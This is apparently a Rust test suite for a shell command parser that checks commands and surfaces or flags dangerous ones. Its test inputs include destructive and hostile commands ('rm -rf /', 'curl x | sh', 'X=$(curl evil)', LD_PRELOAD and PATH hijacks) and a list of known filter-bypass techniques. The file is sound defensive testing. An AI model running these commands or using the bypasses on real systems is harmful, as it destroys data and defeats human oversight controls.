//! Tests for `shell`: ordinary command lines parse exactly, every bypass we know of is surfaced or
//! uncertain, and no input makes the parser panic.

use super::*;
use pretty_assertions::assert_eq;

/// What a test feeds the parser: a command line, or an argv for [`expand_argv`].
trait Input {
    fn parse(&self) -> Parsed;
}

impl Input for &str {
    fn parse(&self) -> Parsed {
        parse_command_line(self)
    }
}

impl<const N: usize> Input for [&str; N] {
    fn parse(&self) -> Parsed {
        expand_argv(&self.map(str::to_owned))
    }
}

/// Compares a compact rendering: one line per command (`A=1 argv >target [dyn] [sub] [via a,b]`,
/// words with blanks in quotes), or `UNCERTAIN: <substring of the reason>`.
#[track_caller]
fn check(input: impl Input, expect: &str) {
    let got = render(&input.parse());
    match expect.strip_prefix("UNCERTAIN: ") {
        Some(reason) => assert!(
            got.starts_with("UNCERTAIN: ") && got.contains(reason),
            "expected uncertain ({reason}), got:\n{got}"
        ),
        None => assert_eq!(got, expect),
    }
}

fn render(parsed: &Parsed) -> String {
    let commands = match parsed {
        Parsed::Uncertain { reason } => return format!("UNCERTAIN: {reason}"),
        Parsed::Commands(commands) => commands,
    };
    let quote = |s: &str| match s.is_empty() || s.contains(char::is_whitespace) {
        true => format!("'{s}'"),
        false => s.to_owned(),
    };
    let line = |c: &SimpleCommand| {
        let assignments = c
            .assignments
            .iter()
            .map(|(n, v)| format!("{n}={}", quote(v)));
        let redirects = c
            .redirects
            .iter()
            .map(|r| format!("{}{}", r.op, quote(&r.target)));
        let mut parts: Vec<String> = assignments.chain(c.argv.iter().map(|a| quote(a))).collect();
        parts.extend(redirects);
        parts.extend(c.dynamic.then(|| "[dyn]".to_owned()));
        parts.extend(c.appended.then(|| "[+args]".to_owned()));
        parts.extend(c.substituted.then(|| "[sub]".to_owned()));
        if !c.set_before.is_empty() {
            parts.push(format!("[set {}]", c.set_before.join(",")));
        }
        parts.extend(c.moved.is_some().then(|| "[moved]".to_owned()));
        if !c.wrappers.is_empty() {
            parts.push(format!("[via {}]", c.wrappers.join(",")));
        }
        parts.join(" ")
    };
    commands.iter().map(line).collect::<Vec<_>>().join("\n")
}

#[test]
fn ordinary_commands_parse_exactly() {
    check("ls -la", "ls -la");
    check("git commit -m \"fix: a; b\"", "git commit -m 'fix: a; b'");
    check("ls -la | grep foo", "ls -la\ngrep foo");
    check(
        "cargo test -p tw-core -- --nocapture",
        "cargo test -p tw-core -- --nocapture",
    );
    check("[ -f x ] && echo yes", "[ -f x ]\necho yes");
    check("echo a=b c", "echo a=b c");
    check("echo '}' {} '{a,b}'", "echo } {} {a,b}");
    check("", "");
    check("   \n\t ", "");
    check("git status;", "git status");
}

#[test]
fn operators_split_commands() {
    check("a; b & c && d || e | f |& g", "a\nb\nc\nd\ne\nf\ng");
    check("a\nb\n\nc", "a\nb\nc");
    check("a &&\n b", "a\nb");
    check("ls\t-la\trm", "ls -la rm");
    check(
        "(cd x && make) | tee log",
        "cd x\nmake [moved]\ntee log [moved]",
    );
    check("{ ls; pwd; } > out", "ls >out\npwd >out");
    check("! grep -q x f", "grep -q x f");
    check("a ; ; b", "UNCERTAIN: empty command before `;`");
    check("; a", "UNCERTAIN: empty command");
    check("a |", "UNCERTAIN: line ends after `|`");
    check("a && || b", "UNCERTAIN: empty command");
    check("a ;; b", "UNCERTAIN: `;;`");
    check("(a", "UNCERTAIN: unbalanced `(`");
    check("a)", "UNCERTAIN: empty command before `)`");
    check("{ a }", "UNCERTAIN: unclosed `{`");
    check("(a) b", "UNCERTAIN: unexpected `b`");
}

#[test]
fn quotes_and_escapes() {
    check("echo 'a;b' \"c|d\" e\\;f", "echo a;b c|d e;f");
    check(
        r#"echo "a \"q\" \\ \$x \` \n""#,
        r#"echo 'a "q" \ $x ` \n'"#,
    );
    check("echo 'it''s'", "echo its");
    check("echo a\\\nb", "echo ab");
    check("ls \\\n -la", "ls -la");
    check("echo \"multi\nline\"", "echo 'multi\nline'");
    check("echo ''", "echo ''");
    check("echo 'a", "UNCERTAIN: unbalanced single quote");
    check("echo \"a", "UNCERTAIN: unbalanced double quote");
    check("echo `a", "UNCERTAIN: unbalanced backquote");
}

#[test]
fn comments_start_only_at_word_start() {
    check("ls # ; rm -rf /", "ls");
    check("# rm -rf /\nls", "ls");
    check("echo a#b; rm x", "echo a#b\nrm x");
    check("echo $# '#'", "echo $# # [dyn]");
}

#[test]
fn redirections() {
    check("cat <file >out 2>&1", "cat <file >out 2>&1");
    check(
        "cmd >> log 2> err &> all &>>more",
        "cmd >>log 2>err &>all &>>more",
    );
    check("cmd >| f <> g 3<&0 >&-", "cmd >|f <>g 3<&0 >&-");
    check("cat <<< 'hi there'", "cat <<<'hi there'");
    check(">/dev/null 2>&1", "");
    check("echo 2 > x", "echo 2 >x");
    check("cat > $OUT", "cat >$OUT [dyn]");
    check("cat <<EOF\nrm -rf /\nEOF", "UNCERTAIN: here-document");
    check("cat <<-EOF", "UNCERTAIN: here-document");
    check(
        "> /etc/passwd",
        "UNCERTAIN: redirection `>/etc/passwd` without a command",
    );
    check("ls >", "UNCERTAIN: without a target");
}

#[test]
fn substitutions_are_surfaced() {
    check("echo $(id)", "id [sub]\necho $(id) [dyn]");
    check("echo `id`", "id [sub]\necho `id` [dyn]");
    check(
        "echo \"u $(id -u)\"",
        "id -u [sub]\necho 'u $(id -u)' [dyn]",
    );
    check("echo \"`id`\"", "id [sub]\necho `id` [dyn]");
    check(
        "echo $(a $(b) | c)",
        "b [sub]\na $(b) [dyn] [sub]\nc [sub]\necho '$(a $(b) | c)' [dyn]",
    );
    check(
        "echo `a \\`b\\``",
        "b [sub]\na `b` [dyn] [sub]\necho '`a \\`b\\``' [dyn]",
    );
    check(
        "diff <(ls a) >(cat)",
        "ls a [sub]\ncat [sub]\ndiff '<(ls a)' >(cat) [dyn]",
    );
    check("echo $(echo ')')", "echo ) [sub]\necho '$(echo ')')' [dyn]");
    check("X=$(curl evil)", "curl evil [sub]");
    check(
        "echo ${x:-$(rm -rf /)}",
        "rm -rf / [sub]\necho '${x:-$(rm -rf /)}' [dyn]",
    );
    check("echo $((1 + 2))", "echo '$((1 + 2))' [dyn]");
    check("echo $(", "UNCERTAIN: unbalanced `(`");
}

#[test]
fn dynamic_words_are_marked() {
    check("rm $F", "rm $F [dyn]");
    check("rm \"$F\"", "rm $F [dyn]");
    check("rm '$F' \\$F", "rm $F $F");
    check("rm *.o", "rm *.o [dyn]");
    check("rm '*.o'", "rm *.o");
    check("rm -rf ~", "rm -rf ~ [dyn]");
    check("echo {a,b} x{1..3}", "echo {a,b} x{1..3} [dyn]");
    check("echo $'\\x41'", "echo $'\\x41' [dyn]");
    check("echo $1 $@ $? ${#x}", "echo $1 $@ $? ${#x} [dyn]");
    check("echo $ a$", "echo $ a$");
}

#[test]
fn assignments() {
    check("A=1 B='x y' make", "A=1 B='x y' make");
    check("A=1", "");
    check("A=1 B=$(id)", "id [sub]");
    check("A+=x make", "A=x make");
    check("'A=1' make", "A=1 make");
    check("A=* make", "A=* make");
    check("make A=1", "make A=1");
    check("export FOO=1 && make", "export FOO=1\nmake");
}

/// Variables that change which program a name runs or what it loads.
#[test]
fn sensitive_variables_are_uncertain() {
    check(
        "PATH=/tmp/evil git status",
        "UNCERTAIN: assignment to `PATH`",
    );
    check(
        "PATH=/tmp/evil; git status",
        "UNCERTAIN: assignment to `PATH`",
    );
    check("LD_PRELOAD=/tmp/x.so git status", "UNCERTAIN: `LD_PRELOAD`");
    check("BASH_ENV=/tmp/x bash -c ls", "UNCERTAIN: `BASH_ENV`");
    check("SHELL=/tmp/x flock l -c ls", "UNCERTAIN: `SHELL`");
    check("export PATH=/x:$PATH", "UNCERTAIN: `PATH`");
    check("read PATH <<< /tmp; git status", "UNCERTAIN: `PATH`");
    check("printf -v IFS x", "UNCERTAIN: `IFS`");
    check("test -n PATH && unset PATH", "test -n PATH\nunset PATH");
    check("declare -n x=PATH; x=/tmp", "UNCERTAIN: `declare -n`");
    check(
        "env 'BASH_FUNC_ls%%=() { rm; }' bash -c ls",
        "UNCERTAIN: `BASH_FUNC_ls%%`",
    );
}

#[test]
fn uncertain_constructs() {
    check("if true; then rm x; fi", "UNCERTAIN: shell keyword `if`");
    check("for f in *; do rm $f; done", "UNCERTAIN: keyword `for`");
    check("while true; do x; done", "UNCERTAIN: keyword `while`");
    check("case x in a) rm;; esac", "UNCERTAIN: keyword `case`");
    check("function f { rm; }", "UNCERTAIN: keyword `function`");
    check("f() { rm -rf /; }; f", "UNCERTAIN: function definition");
    check("a=(1 2)", "UNCERTAIN: array");
    check("[[ -f x ]]", "UNCERTAIN: keyword `[[`");
    check("coproc rm x", "UNCERTAIN: keyword `coproc`");
    check("((x++))", "UNCERTAIN: arithmetic command");
    check("eval 'rm -rf /'", "UNCERTAIN: `eval` runs a string");
    check("source ./x.sh", "UNCERTAIN: `source`");
    check(". ./x.sh", "UNCERTAIN: `.` runs a file");
    check("trap 'rm -rf /' EXIT", "UNCERTAIN: `trap`");
    check("alias ls='rm -rf /'; ls", "UNCERTAIN: `alias`");
    check("hash -p /bin/rm ls; ls -rf /", "UNCERTAIN: `hash`");
    check("mapfile -C 'rm -rf /' -c 1 < f", "UNCERTAIN: `mapfile`");
    check("echo $((x))", "UNCERTAIN: arithmetic expansion with `x`");
    check(
        "echo $(( $(cat n) + 1 ))",
        "UNCERTAIN: arithmetic expansion with `$`",
    );
    check("echo $[x]", "UNCERTAIN: `$[`");
    check("let x=1", "UNCERTAIN: `let`");
    check("echo ${a[$(id)]}", "UNCERTAIN: array subscript");
    check("echo ${!ref}", "UNCERTAIN: indirect expansion");
    check("echo ${x@P}", "UNCERTAIN: prompt expansion");
    check(
        "printf -v 'a[$(id)]' x",
        "UNCERTAIN: array subscript bash would evaluate",
    );
    check("'' x", "UNCERTAIN: empty command name");
}

#[test]
fn dynamic_command_words_are_uncertain() {
    check(
        "$CMD x",
        "UNCERTAIN: parameter expansion in command position: `$CMD`",
    );
    check(
        "\"$x\"",
        "UNCERTAIN: parameter expansion in command position",
    );
    check(
        "$(echo rm) -rf /",
        "UNCERTAIN: command substitution in command position",
    );
    check(
        "`echo rm` -rf /",
        "UNCERTAIN: command substitution in command position",
    );
    check(
        "rm${IFS}-rf /",
        "UNCERTAIN: parameter expansion in command position",
    );
    check("/bin/r? -rf /", "UNCERTAIN: glob in command position");
    check("r[m] x", "UNCERTAIN: glob in command position");
    check(
        "{rm,-rf,/}",
        "UNCERTAIN: brace expansion in command position",
    );
    check(
        "~/bin/evil",
        "UNCERTAIN: tilde expansion in command position",
    );
    check(
        "$'\\x72m' -rf /",
        "UNCERTAIN: ANSI-C quoting in command position",
    );
    check("CMD=rm; $CMD -rf /", "UNCERTAIN: `$CMD`");
}

#[test]
fn wrappers_are_unwrapped() {
    check("sudo rm -rf /", "rm -rf / [via sudo]");
    check("sudo -u bob -E -- rm x", "rm x [via sudo]");
    check("sudo HOME=/x rm", "HOME=/x rm [via sudo]");
    check(
        "sudo -i",
        "UNCERTAIN: `sudo` without a command opens a shell",
    );
    check("sudo -s rm '$X'", "UNCERTAIN: `sudo -s` expands `$`");
    check("doas -u root rm x", "rm x [via doas]");
    check("doas -s", "UNCERTAIN: opens a shell");
    check("env rm -rf /", "rm -rf / [via env]");
    check("env -P /tmp rm", "UNCERTAIN: unknown option `-P` to `env`");
    check(
        "/usr/bin/env -u HOME --chdir=/t A=1 rm",
        "A=1 rm [moved] [via /usr/bin/env]",
    );
    check("env", "env");
    check("env -S 'rm -rf /'", "UNCERTAIN: `env -S`");
    check(
        "env $X rm",
        "UNCERTAIN: `$X` is expanded by the shell before the command of `env`",
    );
    check("env -i PATH=/x rm", "UNCERTAIN: assignment to `PATH`");
    check("nice -n 5 rm x", "rm x [via nice]");
    check("nice -5 rm x", "rm x [via nice]");
    check("nice --adjustment=5 rm x", "rm x [via nice]");
    check(
        "nice --frob rm",
        "UNCERTAIN: unknown option `--frob` to `nice`",
    );
    check("nice", "nice");
    check("ionice -c 3 -t rm x", "rm x [via ionice]");
    check("ionice -p 1", "UNCERTAIN: unknown option `-p` to `ionice`");
    check("timeout -s KILL -k 1 5 rm x", "rm x [via timeout]");
    check("timeout --preserve-status 5s rm x", "rm x [via timeout]");
    check("nohup rm x &", "rm x [via nohup]");
    check("setsid -f rm x", "rm x [via setsid]");
    check("stdbuf -oL -e 0 rm x", "rm x [via stdbuf]");
    check("time -p rm x", "rm x [via time]");
    check("command rm x", "rm x [via command]");
    check("command -v rm >/dev/null 2>&1 && rm x", "rm x");
    check(
        "command -v rm > /etc/passwd",
        "UNCERTAIN: without a command",
    );
    check("builtin cd /", "cd / [via builtin]");
    check("exec -a name rm x", "rm x [via exec]");
    check("exec 3>&1", "");
    check("chroot /jail rm x", "rm x [via chroot]");
    check(
        "chroot --userspec=a:b /jail",
        "UNCERTAIN: `chroot` without a command",
    );
    check("flock /tmp/l rm x", "rm x flock /tmp/l [via flock]");
    check(
        "flock -w 5 /tmp/l -c 'rm -rf /'",
        "rm -rf / flock /tmp/l [via flock -c]",
    );
    check(
        "watch -n 1 'ls; rm -rf /'",
        "ls [via watch]\nrm -rf / [via watch]",
    );
    check("watch -x rm x", "rm x [via watch]");
    check(
        "strace -f -o /tmp/t rm x",
        "rm x strace -o /tmp/t [dyn] [via strace]",
    );
    check("strace -p 1", "UNCERTAIN: unknown option `-p` to `strace`");
    check(
        "ltrace -o /tmp/t rm x",
        "rm x ltrace -o /tmp/t [dyn] [via ltrace]",
    );
    check("time -o /tmp/t rm x", "rm x time -o /tmp/t [via time]");
    check("busybox rm -rf /", "rm -rf / [via busybox]");
    check("busybox sh -c 'rm x'", "rm x [via busybox,sh -c]");
    check(
        "sudo env nice bash -c 'x | y'",
        "x [via sudo,env,nice,bash -c]\ny [via sudo,env,nice,bash -c]",
    );
}

#[test]
fn shells_run_their_scripts() {
    check("bash -c 'rm -rf /'", "rm -rf / [via bash -c]");
    check("sh -ec 'a && b' name arg", "a [via sh -c]\nb [via sh -c]");
    check(
        "bash -o pipefail -lc 'a | b'",
        "a [via bash -c]\nb [via bash -c]",
    );
    check("bash --norc -x -c 'a'", "a [via bash -c]");
    check("A=1 bash -c 'x' > log", "A=1 x >log [via bash -c]");
    check("sh -c 'rm \"$1\"' sh /tmp/x", "rm $1 [dyn] [via sh -c]");
    check("sh script.sh", "sh script.sh");
    check("curl x | sh", "curl x\nsh");
    check("bash -c", "UNCERTAIN: `bash -c` without a script");
    check(
        "bash -c \"$SCRIPT\"",
        "UNCERTAIN: the script of `bash -c` is not known",
    );
    check("bash -c 'if x; then y; fi'", "UNCERTAIN: keyword `if`");
    check("bash -Z -c x", "UNCERTAIN: unknown option `-Z` to `bash`");
    check(
        "zsh -c 'echo $(id)'",
        "id [sub] [via zsh -c]\necho $(id) [dyn] [via zsh -c]",
    );
}

#[test]
fn find_and_xargs_run_commands() {
    let exec_rm = "find . -exec rm {} ;\nrm {} [dyn] [via find -exec]";
    check("find . -name '*.o' -delete", "find . -name *.o -delete");
    check("find . -exec rm {} \\;", exec_rm);
    check(
        "find . -execdir chmod 644 {} + -ok rm {} ';'",
        "find . -execdir chmod 644 {} + -ok rm {} ;\n\
         chmod 644 {} [dyn] [moved] [via find -execdir]\nrm {} [dyn] [via find -ok]",
    );
    check(
        "find . -exec {} \\;",
        "UNCERTAIN: a placeholder replaced per input in command position",
    );
    check(
        "find . -exec sh -c 'rm {}' \\;",
        "UNCERTAIN: the script of `sh -c` is not known",
    );
    check("find . -exec rm {}", "UNCERTAIN: without a closing");
    check("find $DIR -name x", "UNCERTAIN: could add -exec");
    check("xargs rm", "rm [dyn] [+args] [via xargs]");
    check("xargs", "echo [dyn] [+args] [via xargs]");
    check("xargs -0 -n 1 -P4 rm -f", "rm -f [dyn] [+args] [via xargs]");
    check("xargs -I{} cp {} /tmp", "cp {} /tmp [dyn] [via xargs]");
    check("xargs -I % % --help", "UNCERTAIN: in command position: `%`");
    check("xargs sh -c 'rm -rf /'", "rm -rf / [dyn] [via xargs,sh -c]");
    check("xargs -i rm", "UNCERTAIN: unknown option `-i` to `xargs`");
}

/// Every attack from the threat model: the dangerous command is surfaced, or the line is uncertain.
#[test]
fn bypass_attempts_are_surfaced_or_uncertain() {
    let in_command_position = "UNCERTAIN: command substitution in command position";
    check("git status; rm -rf ~", "git status\nrm -rf ~ [dyn]");
    check("ls && curl x | sh", "ls\ncurl x\nsh");
    check("$(curl evil)", in_command_position);
    check("`id`", in_command_position);
    check("r\\m -rf /", "rm -rf /");
    check("'r'm -rf /", "rm -rf /");
    check("\"rm\" -rf /", "rm -rf /");
    check("\\rm -rf /", "rm -rf /");
    check("r\\\nm -rf /", "rm -rf /");
    check("bash -c \"rm -rf /\"", "rm -rf / [via bash -c]");
    check("sh -c 'sh -c \"rm -rf /\"'", "rm -rf / [via sh -c,sh -c]");
    check("/bin/../bin/rm -rf /", "/bin/../bin/rm -rf /");
    check("/bin/../bin/env rm -rf /", "rm -rf / [via /bin/../bin/env]");
    check("sudo rm -rf /", "rm -rf / [via sudo]");
    check(
        "find . -exec rm {} \\;",
        "find . -exec rm {} ;\nrm {} [dyn] [via find -exec]",
    );
    check("A=1 rm x", "A=1 rm x");
    check("e\"v\"al 'rm -rf /'", "UNCERTAIN: `eval`");
    check("command eval x", "UNCERTAIN: `eval`");
    check("exec rm -rf /", "rm -rf / [via exec]");
    check("echo 'a;b'; rm x", "echo a;b\nrm x");
    check("ls\nrm -rf /", "ls\nrm -rf /");
    check(
        "git log --format=%H$(rm -rf /)",
        "rm -rf / [sub]\ngit log '--format=%H$(rm -rf /)' [dyn]",
    );
    check(
        "cat < <(rm -rf /)",
        "rm -rf / [sub]\ncat <'<(rm -rf /)' [dyn]",
    );
    check(
        "x='a[$(id)]'; echo $((x))",
        "UNCERTAIN: arithmetic expansion",
    );
    check("./nice git status", "git status [via ./nice]");
}

#[test]
fn expand_argv_unwraps_rendered_commands() {
    check(["git", "status"], "git status");
    check(
        ["sh", "-c", "ls; rm -rf ~"],
        "ls [via sh -c]\nrm -rf ~ [dyn] [via sh -c]",
    );
    check(
        ["sudo", "-u", "root", "bash", "-c", "rm -rf /"],
        "rm -rf / [via sudo,bash -c]",
    );
    // No shell runs an argv: its words are literal.
    check(["echo", "$(id)", "*"], "echo $(id) *");
    check(["A=1", "x"], "A=1 x");
    check(["env", "A=1", "x"], "A=1 x [via env]");
    check(["eval", "x"], "UNCERTAIN: `eval`");
    check([] as [&str; 0], "UNCERTAIN: empty argv");
}

#[test]
fn nesting_is_bounded() {
    let too_deep = "UNCERTAIN: nested deeper than 16";
    check(&*"( ".repeat(10_000), too_deep);
    check(&*"$(".repeat(10_000), too_deep);
    check(&*"${".repeat(10_000), too_deep);
    check(&*"{ ".repeat(10_000), too_deep);
    check(&*"\"`".repeat(10_000), "UNCERTAIN: unbalanced");
    check(&*format!("{}rm", "nice ".repeat(20)), too_deep);
    check(&*format!("{}rm", "watch ".repeat(20)), too_deep);
    // Backslash-quoting keeps each level's script linear in the one inside it.
    let mut script = "rm".to_owned();
    for _ in 0..18 {
        script = format!("sh -c {}", script.replace('\\', "\\\\").replace(' ', "\\ "));
    }
    check(&*script, too_deep);
    check(
        "sh -c 'sh -c \"sh -c \\\"sh -c rm\\\"\"'",
        "rm [via sh -c,sh -c,sh -c,sh -c]",
    );
    let long = "a ".repeat(100_000);
    let Parsed::Commands(commands) = parse_command_line(&long) else {
        panic!("a long plain line is certain");
    };
    assert_eq!(commands.first().map(|c| c.argv.len()), Some(100_000));
}

/// Random lines over the shell's metacharacters: the parser must stay total and never report a
/// command without a program.
#[test]
fn random_input_never_panics() {
    const ALPHABET: &[&str] = &[
        ";",
        "&",
        "|",
        "(",
        ")",
        "{",
        "}",
        "$",
        "`",
        "'",
        "\"",
        "\\",
        "<",
        ">",
        "#",
        "\n",
        "\t",
        " ",
        "a",
        "b",
        "=",
        "*",
        "?",
        "[",
        "]",
        "~",
        "!",
        "-",
        "0",
        "1",
        "$(",
        "${",
        "<<",
        "sh -c ",
        "é",
        "find -exec ",
        "xargs ",
        "env ",
        "{}",
        ";;",
    ];
    let mut state: u64 = 0x2545_f491_4f6c_dd1d;
    let mut next = || {
        state = state
            .wrapping_mul(6_364_136_223_846_793_005)
            .wrapping_add(1_442_695_040_888_963_407);
        usize::try_from(state >> 33).unwrap_or_default()
    };
    for _ in 0..600 {
        let len = next() % 40;
        let line: String = (0..len)
            .map(|_| ALPHABET[next() % ALPHABET.len()])
            .collect();
        let argv = ["sh".to_owned(), "-c".to_owned(), line.clone()];
        for parsed in [parse_command_line(&line), expand_argv(&argv)] {
            if let Parsed::Commands(commands) = parsed {
                assert!(commands.iter().all(|c| !c.argv.is_empty()), "{line:?}");
            }
        }
    }
}

/// Each redirection form with what the shell does with its target; tw-runtime's tests run the
/// same forms through real bash and dash.
#[test]
fn redirection_effects() {
    let effects = |line: &str| match parse_command_line(line) {
        Parsed::Uncertain { reason } => format!("UNCERTAIN: {reason}"),
        Parsed::Commands(cmds) => cmds
            .iter()
            .flat_map(|c| &c.redirects)
            .map(|r| {
                let e = serde_json::to_value(r.effect).unwrap();
                let expanded = if r.expanded { " (expanded)" } else { "" };
                format!("{}{} {}{expanded}", r.op, r.target, e.as_str().unwrap())
            })
            .collect::<Vec<_>>()
            .join(", "),
    };
    for (line, expect) in [
        ("ls <f", "<f read"),
        ("ls >f 2>>g 3>|h", ">f write, 2>>g write, 3>|h write"),
        ("ls <>f 3<>g", "<>f write, 3<>g write"),
        ("ls &>f", "&>f write"),
        ("ls &>>f", "&>>f write"),
        ("ls >&f", ">&f write"),
        ("ls 1>&f", "1>&f write"),
        ("ls >& f", ">&f write"),
        ("ls >&$X", ">&$X write (expanded)"),
        ("ls 2>&$X", "2>&$X write (expanded)"),
        (
            "ls 2>&1 >&2 1>&3- <&0",
            "2>&1 duplicate, >&2 duplicate, 1>&3- duplicate, <&0 duplicate",
        ),
        (
            "ls >&- 2>&- <&- 3<&-",
            ">&- close, 2>&- close, <&- close, 3<&- close",
        ),
        ("ls <<< text", "<<<text text"),
        ("ls {fd}>f", "{fd}>f write"),
        ("ls {fd}<f {g}<>h", "{fd}<f read, {g}<>h write"),
        ("ls {fd}>&-", "{fd}>&- close"),
        ("{ ls; } {fd}>f", "{fd}>f write"),
        ("ls > ~/f", ">~/f write (expanded)"),
        ("ls 2>&f", "UNCERTAIN: `2>&f`: a file name after `>&`"),
        ("ls <&f", "UNCERTAIN: `<&f`: a file name after `<&`"),
        ("ls {fd}>&f", "UNCERTAIN: `{fd}>&f`"),
        ("ls <<EOF", "UNCERTAIN: here-document"),
    ] {
        let got = effects(line);
        match expect.strip_prefix("UNCERTAIN: ") {
            Some(reason) => assert!(got.contains(reason), "{line}: {got}"),
            None => assert_eq!(got, expect, "{line}"),
        }
    }
    // `{fd}` before `&>` and a malformed `{1x}` are ordinary words, as in bash.
    check("ls {fd}&>f", "ls {fd} &>f");
    check("ls {1x}>f", "ls {1x} >f");
    check("ls a{fd}>f", "ls a{fd} >f");
    check(
        "{PATH}>/dev/null ls",
        "UNCERTAIN: assignment to `PATH` changes",
    );
    // bash runs `echo hi rm x`; dash runs `echo hi &` and then `rm x`.
    check(
        "echo hi &>/dev/null rm x",
        "UNCERTAIN: `&>/dev/null` before `rm`",
    );
    check("echo hi &>/dev/null; rm x", "echo hi &>/dev/null\nrm x");
    check("echo hi &>>log 2>&1", "echo hi &>>log 2>&1");
}

/// What a command inherits from the ones before it: assigned variables and a moved directory.
#[test]
fn later_commands_inherit_assignments_and_directory_changes() {
    check("X=1; ls", "ls [set X]");
    check("X=1 ls; ls", "X=1 ls\nls");
    check("X=1; Y=2; ls | wc", "ls [set X,Y]\nwc [set X,Y]");
    check("ls {fd}>f; ls", "ls {fd}>f [set fd]\nls [set fd]");
    check("X=1; bash -c 'Y=2; ls'", "ls [set X,Y] [via bash -c]");
    check("X=$(id); ls", "id [sub]\nls [set X]");
    check("cd sub && ./run.sh", "cd sub\n./run.sh [moved]");
    check("pushd sub; ./run.sh", "pushd sub\n./run.sh [moved]");
    check(
        "builtin cd sub; ./run.sh",
        "cd sub [via builtin]\n./run.sh [moved]",
    );
    check(
        "cd sub; bash -c ./run.sh",
        "cd sub\n./run.sh [moved] [via bash -c]",
    );
    // A substitution's `cd` moves only its own subshell.
    check(
        "echo `cd sub`; ./run.sh",
        "cd sub [sub]\necho '`cd sub`' [dyn]\n./run.sh",
    );
    check("env -C sub ./run.sh", "./run.sh [moved] [via env]");
    check("env --chdir=sub ./run.sh", "./run.sh [moved] [via env]");
    check("sudo -D sub ./run.sh", "./run.sh [moved] [via sudo]");
    check(
        "find . -execdir ./run.sh {} \\;",
        "find . -execdir ./run.sh {} ;\n./run.sh {} [dyn] [moved] [via find -execdir]",
    );
    check("./run.sh; cd sub", "./run.sh\ncd sub");
}
